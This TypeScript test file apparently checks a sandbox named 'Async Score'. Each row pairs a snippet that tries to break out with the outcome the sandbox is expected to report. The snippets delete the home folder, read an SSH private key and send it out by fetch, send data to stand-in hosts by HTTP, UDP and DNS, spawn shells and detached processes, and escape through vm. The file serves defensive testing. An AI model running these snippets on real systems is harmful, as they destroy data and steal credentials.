import { symlinkSync } from 'node:fs';
import * as path from 'node:path';

import type { Group, Row } from '../row';

/** What a function of a person's own tries, with what it really has in its hands, not with inventions. */
function tried(does: string, code: string, effect: string, more: Partial<Row> = {}): Row {
  return {
    does,
    files: {
      'a.js': `const real = process.mainModule.require.bind(process.mainModule);\nmodule.exports = async function own(id) { if (globalThis) { ${code} } };`,
    },
    says: {
      code: 'completedWithError',
      message: '…Async Score refused to …, as I/O is invented here…',
      effects: [effect],
    },
    exit: 1,
    ...more,
  };
}

export const reaching: Group = {
  title: 'Reaching out: files, processes, the network',
  rows: [
    tried(
      'writes into the home folder',
      "real('fs').writeFileSync('$HOME/letter.txt', 'x');",
      'wrote $HOME/letter.txt',
    ),
    tried(
      'removes the home folder',
      "real('fs').rmSync('$HOME', { recursive: true, force: true });",
      'wrote $HOME',
    ),
    tried(
      'writes into the working copy, by a relative path',
      "real('fs').writeFileSync('../../work/precious.js', 'x');",
      'wrote $WORK/precious.js',
    ),
    tried(
      'writes through a link that it makes',
      "real('fs').symlinkSync('$WORK', 'link'); real('fs').writeFileSync('link/precious.js', 'x');",
      'wrote $WORK',
    ),
    tried(
      'writes through a link that was there',
      "real('fs').writeFileSync('$WORK/link.js', 'x');",
      'wrote $WORK/precious.js',
      {
        arrange: ({ work }) =>
          symlinkSync(path.join(work, 'precious.js'), path.join(work, 'link.js')),
      },
    ),
    tried(
      'writes by a stream',
      "await new Promise((done, fail) => real('fs').createWriteStream('$WORK/precious.js').on('error', fail).on('close', done));",
      'wrote $WORK/precious.js',
    ),
    tried(
      'writes by a promise',
      "await real('fs').promises.writeFile('$WORK/precious.js', 'x');",
      'wrote $WORK/precious.js',
    ),
    tried(
      'changes the rights of a file',
      "real('fs').chmodSync('$WORK/precious.js', 0);",
      'wrote $WORK/precious.js',
    ),
    tried(
      'writes by process.binding',
      "process.binding('fs').open('$WORK/precious.js', 577, 438, undefined, {});",
      'called process.binding("fs")',
    ),
    tried(
      'writes by a report of Node',
      "process.report.writeReport('$WORK/made.json');",
      'wrote $WORK/made.json',
    ),
    tried(
      'writes by a database',
      "new (real('node:sqlite').DatabaseSync)('$WORK/made.db');",
      'wrote $WORK/made.db',
      {
        does: 'writes by a snapshot of the heap',
        files: {
          'a.js':
            "const v8 = process.mainModule.require('v8'); module.exports = async function own(id) { if (globalThis) v8.writeHeapSnapshot('$WORK/made.heap'); };",
        },
        says: { code: 'completedWithError', effects: ['wrote $WORK/made.heap'] },
      },
    ),
    tried(
      'puts a file beside the profiles of V8 by its flags',
      "real('v8').setFlagsFromString('--logfile=$WORK/made.log --log-all');",
      'called …',
    ),
    tried(
      'starts a shell',
      "real('child_process').execSync('touch $WORK/made; echo $MARK');",
      'started …touch $WORK/made…',
    ),
    tried(
      'starts a process that is detached, with a clean environment',
      "real('child_process').spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)', '$MARK'], { detached: true, env: {}, cwd: '/', stdio: 'ignore' }).unref();",
      'started …',
    ),
    tried(
      'starts a process by the handle below',
      "const p = new (real('child_process').ChildProcess)(); p._handle.spawn({ file: '/bin/sh', args: ['sh', '-c', 'touch $WORK/made'] }); if (globalThis) throw new Error('it was started');",
      'started …',
    ),
    tried('forks', "real('child_process').fork('$WORK/precious.js', ['$MARK']);", 'started …'),
    tried(
      'starts a thread',
      "new (real('worker_threads').Worker)('for (;;);', { eval: true });",
      'started a thread of …',
    ),
    tried(
      'starts a process of a cluster',
      "real('cluster').fork();",
      'started a process of a cluster',
    ),
    tried(
      'opens the port of the debugger',
      "real('inspector').open(0);",
      'listened the port of a debugger, …',
    ),
    tried(
      'asks Node to be debugged, by a signal',
      "process.kill(process.pid, 'SIGUSR1');",
      'started kill …',
    ),
    tried(
      'connects to a server on this machine',
      "await new Promise((done, fail) => real('net').connect($PORT, '127.0.0.1').on('error', fail).on('connect', done));",
      'connected …$PORT',
    ),
    tried(
      'asks a server outside by HTTP',
      "await new Promise((done, fail) => real('http').get('http://192.0.2.1/steal', done).on('error', fail));",
      'connected …192.0.2.1…',
    ),
    tried(
      'asks by the fetch that Node has',
      "await globalThis['fet' + 'ch']('http://127.0.0.1:$PORT/steal').catch((error) => { throw error.cause || error; });",
      'connected …$PORT',
    ),
    tried(
      'sends a datagram outside',
      "await new Promise((done, fail) => real('dgram').createSocket('udp4').send('x', 53, '192.0.2.1', (error) => (error ? fail(error) : done())));",
      'connected …192.0.2.1…',
    ),
    tried(
      'asks for a name that holds what it read',
      "await real('dns').promises.resolve4('secret.example.invalid');",
      'connected secret.example.invalid',
    ),
    tried('takes the rights of another user', 'process.setuid(65534);', 'called process.setuid()'),
    {
      does: 'reads ~/.ssh, which nothing keeps it from, and has nowhere to carry it',
      files: {
        'a.js':
          "const fs = process.mainModule.require('fs'); module.exports = async function own(id) { await fetch(id, { body: fs.readFileSync('$HOME/.ssh/id_ed25519', 'utf8') }); };",
      },
      says: { code: 'scored' },
      exit: 0,
    },
    {
      does: 'looks for secrets in its environment',
      files: {
        'a.js':
          "module.exports = async function own(id) { if (globalThis) throw new Error('sees ' + (process.env.MY_TOKEN || 'none')); };",
      },
      env: { MY_TOKEN: 'SECRET-TOKEN', NODE_OPTIONS: '', AWS_SECRET_ACCESS_KEY: 'SECRET-TOKEN' },
      says: { code: 'completedWithError', message: '…sees none', never: ['SECRET-TOKEN'] },
      exit: 1,
    },
    {
      does: 'has itself preloaded by NODE_OPTIONS of the terminal',
      files: {
        'a.js':
          'module.exports = async function own(id) { if (globalThis) throw new Error(String(global.preloaded)); };',
        'preload.js': 'global.preloaded = true;',
      },
      env: { NODE_OPTIONS: '--require $WORK/preload.js' },
      own: {},
      says: { code: 'completedWithError', message: '…undefined' },
      exit: 1,
    },
    {
      does: 'runs code in another context of vm, which has a process of its own',
      files: {
        'a.js':
          "module.exports = async function own(id) { const p = process.mainModule.require('vm').runInNewContext('this.constructor.constructor(\"return process\")()'); if (p) p.mainModule.require('fs').writeFileSync('$WORK/precious.js', 'x'); };",
      },
      says: { code: 'completedWithError', effects: ['wrote $WORK/precious.js'] },
      exit: 1,
    },
    {
      does: 'sets the mask of files that are made',
      files: {
        'a.js': 'process.umask(0); module.exports = async function own(id) { await fetch(id); };',
      },
      says: { code: 'scored' },
      exit: 0,
    },
    {
      does: 'listens at every address',
      files: {
        'a.js':
          "module.exports = async function own(id) { const server = process.mainModule.require('net').createServer(); await new Promise((done) => server.listen(0, '0.0.0.0', done)); const { address } = server.address(); server.close(); if (globalThis) throw new Error('at ' + address); };",
      },
      says: {
        code: 'completedWithError',
        message: '…at 127.0.0.1',
        effects: ['listened 127.0.0.1:…: done'],
      },
      exit: 1,
    },
    {
      does: 'is an upload, and writes into the home folder',
      files: {
        'a.js':
          "const fs = require('fs'); module.exports = function upload(stream, idOrPath, tag, done) { fs.writeFile('$HOME/letter.txt', 'x', (error) => blobManager.create(account).put(stream, () => done(error))); };",
      },
      says: {
        code: 'completedWithError',
        message: '…Async Score refused to write to $HOME/letter.txt…',
      },
      exit: 1,
    },
    {
      does: 'is an upload, and starts a shell',
      files: {
        'a.js':
          "module.exports = function upload(stream, idOrPath, tag, done) { require('child_process').exec('touch $WORK/made', (error) => blobManager.create(account).put(stream, () => done(error))); };",
      },
      says: { code: 'threw', message: '…Async Score refused to start …' },
      exit: 1,
    },
    {
      does: 'is a script, which writes where it wants, as any script that is run',
      files: { 'a.js': "require('fs').writeFileSync('$WORK/made.txt', 'x');" },
      says: { code: 'scored' },
      exit: 0,
      leaves: ['work/made.txt'],
    },
    {
      does: 'is a script that leaves a process behind, detached and with a clean environment',
      files: {
        'a.js':
          "require('child_process').spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)', '$MARK'], { detached: true, env: {}, cwd: '/', stdio: 'ignore' }).unref();",
      },
      says: { code: 'scored' },
      exit: 0,
    },
    {
      does: 'is a script that leaves a grandchild in another session behind',
      files: {
        'a.js':
          "require('child_process').spawn('setsid', ['sh', '-c', 'setsid sleep 300 & sleep 301'], { detached: true, env: { PATH: process.env.PATH, MINE: '$MARK' }, cwd: '/', stdio: 'ignore' }).unref();",
      },
      says: { code: 'scored' },
      exit: 0,
    },
  ],
};
